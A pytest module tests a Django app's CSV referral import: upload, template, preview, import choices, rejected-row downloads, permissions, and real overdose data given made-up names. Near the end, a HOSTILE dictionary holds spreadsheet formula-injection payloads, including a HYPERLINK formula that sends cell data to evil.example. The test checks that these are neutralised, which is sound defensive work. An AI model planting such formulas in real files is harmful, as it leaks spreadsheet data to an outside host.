"""The CSV upload pages: upload, template, preview, the import choice, the rejected rows; who may use them."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from port.audit.models import AuditEvent
from port.participants.models import Participant
from port.referrals.csv_import.columns import COLUMN_NAMES
from port.referrals.csv_import.reading import read_table
from port.referrals.models import Channel, OverdoseEvent, Referral, ReferralImport
from port.testing.budgets import assert_within_budget
from port.testing.factories import submit_referral
from port.testing.referrals import UPLOAD_URL, confirm, good_row, make_csv, png_bytes, post_file, uploaded, xlsx_bytes

PA_OVERDOSES = Path("/work/shared/data/overdose/pa-state-police-overdose-incidents-2018-2020.csv")


def download_body(response) -> bytes:
    """A download's bytes, read once (every CSV download streams) and kept for a second look."""
    if not hasattr(response, "body"):
        response.body = b"".join(response.streaming_content)
    return response.body


def read_download(response) -> list[list[str]]:
    body = download_body(response)
    assert body.startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------------------------------------
# Upload page and template


@pytest.mark.parametrize("who", ["admin", "supervisor", "partner"])
def test_importing_roles_see_the_upload_page_with_every_column_explained(cast, who):
    response = cast.client_for(getattr(cast, who)).get(UPLOAD_URL)
    assert response.status_code == 200
    page = response.content.decode()
    assert 'enctype="multipart/form-data"' in page
    for name in COLUMN_NAMES:
        assert f"<code>{name}</code>" in page
    assert reverse("referrals:import_template") in page


def test_a_partners_upload_page_says_which_source_a_blank_cell_means(cast):
    page = cast.client_for(cast.partner).get(UPLOAD_URL).content.decode()
    assert "When “source” is blank, “emergency_department” (your agency) is used." in page


def test_the_template_has_the_header_and_synthetic_example_rows_that_import_cleanly(cast):
    client = cast.client_for(cast.supervisor)
    response = client.get(reverse("referrals:import_template"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="referral-template.csv"'
    header, *examples = read_download(response)
    assert header == list(COLUMN_NAMES)
    assert 2 <= len(examples) <= 3
    assert all(row[COLUMN_NAMES.index("external_id")].startswith("EXAMPLE-") for row in examples)
    # Uploaded as it is, the template previews with every example row ready.
    response = post_file(client, download_body(response), "referral-template.csv")
    batch = ReferralImport.objects.get()
    page = client.get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert f"{len(examples)} ready to import" in page
    assert "with problems" in page and "0 with problems" in page


def test_peers_may_not_upload(cast):
    client = cast.client_for(cast.peer)
    assert client.get(UPLOAD_URL).status_code == 403
    assert client.get(reverse("referrals:import_template")).status_code == 403
    assert post_file(client, make_csv([good_row(1)])).status_code == 403
    assert not ReferralImport.objects.exists()


def test_signed_out_visitors_are_sent_to_sign_in(client):
    response = client.get(UPLOAD_URL)
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_a_good_upload_is_kept_for_preview_and_audited(cast):
    batch = uploaded(cast, [good_row(1), good_row(2)])
    assert (batch.state, batch.row_count, batch.agency, batch.uploaded_by) == (
        ReferralImport.State.PREVIEW,
        2,
        cast.ed,
        cast.partner.user,
    )
    assert batch.file_name == "daily.csv"
    assert not Referral.objects.exists()
    event = AuditEvent.objects.get(target_type="referrals.referralimport")
    assert (event.action, event.target_ids, event.user) == (
        AuditEvent.Action.CREATE,
        [str(batch.pk)],
        cast.partner.user,
    )


BAD_FILES = [
    ("empty", b"", "The file is empty"),
    ("blank lines", b"\r\n\r\n", "The file is empty"),
    ("header only", b"source,phone\r\n", "The file has a header row but no referrals below it."),
    ("png", png_bytes(), "This is an image (PNG), not a CSV file."),
    ("xlsx", xlsx_bytes(), "This is an Excel workbook (.xlsx)"),
    (
        "latin-1",
        "source,first_name,phone\nems,Zoë,412-555-0100\n".encode("latin-1"),
        "The file is not saved as UTF-8: line 2 has a character we cannot read",
    ),
    (
        "utf-16 without bom",
        "source,phone\nems,412-555-0100\n".encode("utf-16-le"),
        "UTF-16 text without a byte-order mark",
    ),
    ("malformed", b'source,notes\nems,"unclosed\n', "The file is not valid CSV near line"),
    ("ragged", b"source,phone\nems,412-555-0100,extra\n", "row 2 has 3"),
    ("unknown column", b"source,phone,ssn\nems,412-555-0100,000\n", "Unknown column: “ssn”"),
    ("missing source", b"first_name,phone\nJo,412-555-0100\n", "The required column “source” is missing."),
]


@pytest.mark.parametrize(("raw", "expected"), [case[1:] for case in BAD_FILES], ids=[c[0] for c in BAD_FILES])
def test_a_bad_file_gets_a_specific_message_on_the_upload_page_and_nothing_is_saved(cast, raw, expected):
    response = post_file(cast.client_for(cast.partner), raw)
    assert response.status_code == 200
    page = response.content.decode()
    assert expected in page, page
    assert 'aria-invalid="true"' in page
    assert not ReferralImport.objects.exists()
    assert not AuditEvent.objects.filter(target_type="referrals.referralimport").exists()


def test_no_file_at_all_is_asked_for(cast):
    response = cast.client_for(cast.partner).post(UPLOAD_URL, {})
    assert "Choose the CSV file to upload." in response.content.decode()


def test_an_oversized_upload_is_refused_with_its_size_and_the_limit(cast, settings):
    settings.INTAKE_CSV_MAX_BYTES = 1024
    response = post_file(cast.client_for(cast.partner), make_csv([good_row(n) for n in range(1, 40)]))
    page = response.content.decode()
    assert "the limit for one upload is 1.0\xa0KB" in page
    assert not ReferralImport.objects.exists()


def test_too_many_rows_are_refused_on_the_upload_page(cast, settings):
    settings.INTAKE_CSV_MAX_ROWS = 2
    response = post_file(cast.client_for(cast.partner), make_csv([good_row(n) for n in range(1, 4)]))
    assert "The file has 3 rows; the limit is 2 per upload." in response.content.decode()
    assert not ReferralImport.objects.exists()


# ---------------------------------------------------------------------------------------------
# Preview


def test_the_preview_shows_a_summary_and_every_row_with_its_problems(cast):
    submit_referral(
        cast.program, agency=cast.ed, by=cast.partner, external_id="ED-0003", channel=Channel.API, first_name="Person3"
    )
    batch = uploaded(cast, [good_row(1), good_row(2, phone="", transported="maybe"), good_row(3), good_row(4)])
    response = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk]))
    page = response.content.decode()
    assert "4 rows" in page
    assert "2 ready to import" in page
    assert "1 already received: it will not be duplicated" in page
    assert "1 with problems" in page
    assert 'href="#row-3"' in page and 'id="row-3"' in page
    assert "Person2 Example" in page and "ED-0002" in page
    assert "<code>phone</code>: Give a way to reach the person" in page
    assert "<code>transported</code>: Use yes, no, or leave it blank." in page
    assert "Already received — will not be duplicated" in page
    # The all-or-nothing choice is shown but disabled; importing the rows without problems is offered.
    assert 'value="all" disabled' in page
    assert "Import the 2 rows without problems; skip the 1 row with problems" in page
    assert 'value="cancel"' in page
    event = AuditEvent.objects.get(action=AuditEvent.Action.LIST, target_type="referrals.referralimport")
    assert event.participant_ids == [Referral.objects.get(external_id="ED-0003").participant_id]


def buttons(page: str) -> dict[str, str]:
    """The import choices on the preview: value -> the button's words (with "disabled" when it is)."""
    found = re.findall(r'<button type="submit" name="choice" value="(\w+)"( disabled)?[^>]*>(.*?)</button>', page, re.S)
    return {value: " ".join(words.split()) + (" (disabled)" if disabled else "") for value, disabled, words in found}


def test_a_clean_preview_offers_importing_every_row_all_or_nothing(cast):
    batch = uploaded(cast, [good_row(1), good_row(2)])
    page = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert buttons(page) == {"all": "Import all 2 rows", "cancel": "Cancel"}
    assert "if any row then has a problem, nothing is imported" in page


def test_with_some_rows_with_problems_the_buttons_say_what_happens_to_them(cast):
    batch = uploaded(cast, [good_row(1), good_row(2, phone=""), good_row(3, transported="maybe")])
    page = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert buttons(page) == {
        "all": "All or nothing: imports nothing while 2 rows have problems (disabled)",
        "valid_only": "Import the 1 row without problems; skip the 2 rows with problems",
        "cancel": "Cancel",
    }
    assert "Import all 3 rows" not in page


def test_when_every_row_has_a_problem_nothing_can_be_imported(cast):
    batch = uploaded(cast, [good_row(1, phone=""), good_row(2, transported="maybe")])
    page = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert buttons(page) == {
        "all": "All or nothing: imports nothing while 2 rows have problems (disabled)",
        "cancel": "Cancel",
    }
    assert "Fix the rows in your spreadsheet and upload it again" in page


def test_the_preview_warns_that_rows_without_an_external_id_would_be_sent_again(cast):
    batch = uploaded(cast, [good_row(1, external_id="")])
    page = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert "1 row has no external_id" in page


def test_the_preview_needs_the_same_number_of_queries_for_many_rows(cast, django_assert_max_num_queries):
    small = uploaded(cast, [good_row(n) for n in range(1, 3)])
    large = uploaded(cast, [good_row(n) for n in range(1, 61)])
    client = cast.client_for(cast.partner)
    client.get(reverse("referrals:import_preview", args=[small.pk]))  # session and caches warm
    with assert_within_budget("referrals:import_preview") as small_queries:
        client.get(reverse("referrals:import_preview", args=[small.pk]))
    with django_assert_max_num_queries(len(small_queries.captured_queries)):
        client.get(reverse("referrals:import_preview", args=[large.pk]))


def test_a_supervisor_sees_a_partners_upload_but_only_the_uploader_can_import_it(cast):
    batch = uploaded(cast, [good_row(1)])
    client = cast.client_for(cast.supervisor)
    page = client.get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert "can import it" in page
    assert 'value="all"' not in page
    response = confirm(client, batch, "all")
    assert "Only the person who uploaded this file can import it." in response.content.decode()
    assert not Referral.objects.exists()
    response = confirm(client, batch, "cancel")
    assert "Upload cancelled" in response.content.decode()


# ---------------------------------------------------------------------------------------------
# Importing


def test_importing_all_rows_shows_the_result(cast):
    batch = uploaded(cast, [good_row(1), good_row(2)])
    response = confirm(cast.client_for(cast.partner), batch, "all")
    page = response.content.decode()
    assert "Import finished" in page
    assert "2 referrals imported" in page
    assert "0 already received" in page
    assert "0 rows rejected" in page
    assert reverse("referrals:import_rejected", args=[batch.pk]) not in page
    assert Referral.objects.filter(channel=Channel.CSV, referring_agency=cast.ed).count() == 2
    batch.refresh_from_db()
    assert batch.content == ""


def test_import_all_with_a_problem_row_imports_nothing_and_says_why(cast):
    batch = uploaded(cast, [good_row(1), good_row(2, date_of_birth="someday")])
    response = confirm(cast.client_for(cast.partner), batch, "all")
    page = response.content.decode()
    assert "Nothing was imported: row 3 has a problem." in page
    assert not Referral.objects.exists()
    assert not Participant.objects.exists()
    assert not OverdoseEvent.objects.exists()
    batch.refresh_from_db()
    assert batch.state == ReferralImport.State.PREVIEW


def test_a_second_submit_does_not_import_again(cast):
    batch = uploaded(cast, [good_row(1)])
    client = cast.client_for(cast.partner)
    confirm(client, batch, "all")
    response = confirm(client, batch, "valid_only")
    assert "This file was already imported; nothing was imported again." in response.content.decode()
    assert Referral.objects.count() == 1


def test_an_unknown_choice_changes_nothing(cast):
    batch = uploaded(cast, [good_row(1)])
    response = confirm(cast.client_for(cast.partner), batch, "everything")
    assert "Choose whether to import every row or only the valid rows." in response.content.decode()
    assert not Referral.objects.exists()


def test_confirm_accepts_only_post(cast):
    batch = uploaded(cast, [good_row(1)])
    assert cast.client_for(cast.partner).get(reverse("referrals:import_confirm", args=[batch.pk])).status_code == 405


def test_the_rejected_rows_download_has_original_values_row_numbers_and_problems(cast):
    rows = [good_row(1), {**good_row(2), "phone": "", "notes": 'said "hi", left'}, good_row(3, acuity="soon")]
    batch = uploaded(cast, rows)
    client = cast.client_for(cast.partner)
    page = confirm(client, batch, "valid_only").content.decode()
    assert "1 referral imported" in page
    assert "2 rows rejected" in page
    url = reverse("referrals:import_rejected", args=[batch.pk])
    assert url in page
    response = client.get(url)
    assert response["Content-Disposition"] == f'attachment; filename="rejected-rows-{batch.pk}.csv"'
    header, *lines = read_download(response)
    columns = list(good_row(2)) + ["notes", "acuity"]
    assert header == [*[c for c in make_csv(rows).splitlines()[0].split(",")], "original_row", "problems"]
    assert set(columns) <= set(header)
    second, third = (dict(zip(header, line, strict=True)) for line in lines)
    assert second["external_id"] == "ED-0002"
    assert second["notes"] == 'said "hi", left'
    assert second["original_row"] == "3"
    assert second["problems"].startswith("phone: Give a way to reach the person")
    assert third["original_row"] == "4"
    assert third["problems"] == "acuity: Unknown acuity. Use one of: high, elevated, standard."
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert (event.target_type, event.target_ids, event.user) == (
        "referrals.referralimport",
        [str(batch.pk)],
        cast.partner.user,
    )

    # Corrected, the download can be uploaded again as it is.
    fixed = (
        download_body(response)
        .decode("utf-8-sig")
        .replace(",soon,", ",high,")
        .replace(
            "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,,",
            "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,412-555-0002,",
        )
    )
    assert post_file(client, fixed, "fixed.csv").status_code == 302
    again = ReferralImport.objects.latest("pk")
    page = confirm(client, again, "all").content.decode()
    assert "2 referrals imported" in page
    assert Referral.objects.count() == 3


def test_there_is_no_rejected_rows_download_before_import_or_without_rejected_rows(cast):
    batch = uploaded(cast, [good_row(1)])
    client = cast.client_for(cast.partner)
    assert client.get(reverse("referrals:import_rejected", args=[batch.pk])).status_code == 404
    confirm(client, batch, "all")
    assert client.get(reverse("referrals:import_rejected", args=[batch.pk])).status_code == 404


def test_uploading_the_same_file_twice_imports_each_referral_once(cast):
    rows = [good_row(1), good_row(2)]
    client = cast.client_for(cast.partner)
    confirm(client, uploaded(cast, rows), "all")
    again = uploaded(cast, rows)
    page = client.get(reverse("referrals:import_preview", args=[again.pk])).content.decode()
    assert "2 already received: they will not be duplicated" in page
    page = confirm(client, again, "all").content.decode()
    assert "0 referrals imported" in page
    assert "2 already received, not duplicated" in page
    assert Referral.objects.count() == 2


# ---------------------------------------------------------------------------------------------
# Who may see a batch


@pytest.mark.parametrize("who", ["partner_211", "outsider"])
def test_a_batch_is_not_found_for_another_agency_or_program(cast, who):
    batch = uploaded(cast, [good_row(1)])
    client = cast.client_for(getattr(cast, who))
    assert client.get(reverse("referrals:import_preview", args=[batch.pk])).status_code == 404
    assert client.post(reverse("referrals:import_confirm", args=[batch.pk]), {"choice": "all"}).status_code == 404
    assert client.post(reverse("referrals:import_confirm", args=[batch.pk]), {"choice": "cancel"}).status_code == 404
    assert client.get(reverse("referrals:import_rejected", args=[batch.pk])).status_code == 404
    batch.refresh_from_db()
    assert batch.state == ReferralImport.State.PREVIEW
    assert not Referral.objects.exists()


def test_a_peer_is_refused_every_import_page(cast):
    batch = uploaded(cast, [good_row(1)])
    client = cast.client_for(cast.peer)
    assert client.get(reverse("referrals:import_preview", args=[batch.pk])).status_code == 403
    assert client.post(reverse("referrals:import_confirm", args=[batch.pk]), {"choice": "all"}).status_code == 403
    assert client.get(reverse("referrals:import_rejected", args=[batch.pk])).status_code == 403


def test_a_missing_batch_is_not_found(cast):
    assert cast.client_for(cast.admin).get(reverse("referrals:import_preview", args=[999999])).status_code == 404


def test_recent_uploads_are_listed_only_for_those_who_may_see_them(cast):
    batch = uploaded(cast, [good_row(1)])
    link = reverse("referrals:import_preview", args=[batch.pk])
    assert link in cast.client_for(cast.partner).get(UPLOAD_URL).content.decode()
    assert link in cast.client_for(cast.supervisor).get(UPLOAD_URL).content.decode()
    assert link not in cast.client_for(cast.partner_211).get(UPLOAD_URL).content.decode()
    assert link not in cast.client_for(cast.outsider).get(UPLOAD_URL).content.decode()


# ---------------------------------------------------------------------------------------------
# Real public data: Pennsylvania State Police overdose incidents (read at test time, never copied)


needs_pa_data = pytest.mark.skipif(not PA_OVERDOSES.exists(), reason="shared overdose data not present")


@needs_pa_data
def test_the_real_state_police_file_uploaded_as_it_is_is_refused_with_specific_messages(cast, settings):
    raw = PA_OVERDOSES.read_bytes()
    client = cast.client_for(cast.partner)
    page = post_file(client, raw, PA_OVERDOSES.name).content.decode()
    assert "the limit for one upload is 2.0\xa0MB" in page  # 2.7 MB: refused before it is read

    settings.INTAKE_CSV_MAX_BYTES = len(raw) + 1
    page = post_file(client, raw, PA_OVERDOSES.name).content.decode()
    assert "The required column “source” is missing." in page
    assert "Unknown columns: “Incident ID”, “Incident Date”" in page
    assert page.index("The required column") < page.index("Unknown columns")
    assert not ReferralImport.objects.exists()


SUBSTANCE_COLUMNS_START = "COCAINE/CRACK"


def pa_rows_as_referrals(limit: int) -> list[dict[str, str]]:
    """A few real incidents whose victim survived, with made-up names: the county and age range give a
    synthetic identity; the real suspected-substance names, date, time and naloxone are kept."""
    with PA_OVERDOSES.open(newline="", encoding="utf-8") as source:
        reader = csv.DictReader(source)
        columns = list(reader.fieldnames or [])
        substance_names = columns[columns.index(SUBSTANCE_COLUMNS_START) :]
        rows: list[dict[str, str]] = []
        for incident in reader:
            substances = [name for name in substance_names if incident[name] == "1"]
            if incident["Survive"] != "Y" or len(substances) < 2:
                continue
            low_age = int(incident["Age Range"].split("-")[0].strip() or 30)
            year = int(incident["Incident Date"][-4:])
            rows.append(
                {
                    "external_id": f"PSP-{incident['Incident ID']}-{incident['Victim ID']}",
                    "source": "law_enforcement",
                    "received_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
                    "overdose_occurred_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
                    "first_name": f"Synthetic{len(rows) + 1}",
                    "last_name": f"{incident['Incident County Name']}-Resident",
                    "date_of_birth": f"06/15/{year - low_age - 2}",
                    "location_notes": f"{incident['Victim County'] or incident['Incident County Name']} County, PA "
                    "(synthetic test location)",
                    "overdose_location": f"{incident['Incident County Name']} County, PA",
                    "substances": ";".join(substances),
                    "naloxone_given_by": "law_enforcement" if incident["Naloxone Administered"] == "Y" else "",
                }
            )
            if len(rows) == limit:
                return rows
    return rows


@needs_pa_data
def test_real_substance_names_from_the_state_police_data_import(cast):
    rows = pa_rows_as_referrals(5)
    assert len(rows) == 5
    assert any("," in row["substances"] for row in rows) or any("/" in row["substances"] for row in rows)
    batch = uploaded(cast, rows, by=cast.supervisor)
    client = cast.client_for(cast.supervisor)
    page = client.get(reverse("referrals:import_preview", args=[batch.pk])).content.decode()
    assert "5 ready to import" in page, page
    page = confirm(client, batch, "all").content.decode()
    assert "5 referrals imported" in page
    for row in rows:
        referral = Referral.objects.select_related("overdose_event").get(external_id=row["external_id"])
        assert referral.overdose_event.substances == row["substances"].split(";")
        assert referral.channel == Channel.CSV


HOSTILE = {
    "notes": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "location_notes": "=2+2",
    "overdose_location": "@SUM(A1)",
    "preferred_name": "-Dee",
    "phone": "+1 412 555 0199",
    "address": "\t=1+1",
}


def test_the_rejected_rows_download_neutralises_formulas_and_re_uploads_unchanged(cast):
    batch = uploaded(cast, [good_row(1), good_row(2, acuity="soon", **HOSTILE)])
    client = cast.client_for(cast.partner)
    confirm(client, batch, "valid_only")
    response = client.get(reverse("referrals:import_rejected", args=[batch.pk]))
    header, line = read_download(response)
    row = dict(zip(header, line, strict=True))
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column  # a spreadsheet shows the text; it runs nothing
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)

    # The download, uploaded again as it is, reads back the values first sent, apostrophes removed.
    assert post_file(client, download_body(response), "again.csv").status_code == 302
    again = ReferralImport.objects.latest("pk")
    table = read_table(again.content)
    values = table.values(table.rows[0])
    assert {column: values[column] for column in HOSTILE} == HOSTILE
    # Corrected, it imports with the values as sent: the phone number keeps its +1.
    fixed = download_body(response).decode("utf-8-sig").replace(",soon,", ",high,")
    assert post_file(client, fixed, "fixed.csv").status_code == 302
    assert "1 referral imported" in confirm(client, ReferralImport.objects.latest("pk"), "all").content.decode()
    referral = Referral.objects.get(external_id="ED-0002")
    assert referral.notes == HOSTILE["notes"]
    assert referral.participant.phones.get().number == "+14125550199"
    assert referral.overdose_event.location == "@SUM(A1)"


def test_an_apostrophe_that_protects_nothing_is_kept(cast):
    table = read_table(make_csv([good_row(1, last_name="'Neill", notes="'tis", location_notes="''=x")]))
    values = table.values(table.rows[0])
    assert (values["last_name"], values["notes"], values["location_notes"]) == ("'Neill", "'tis", "'=x")
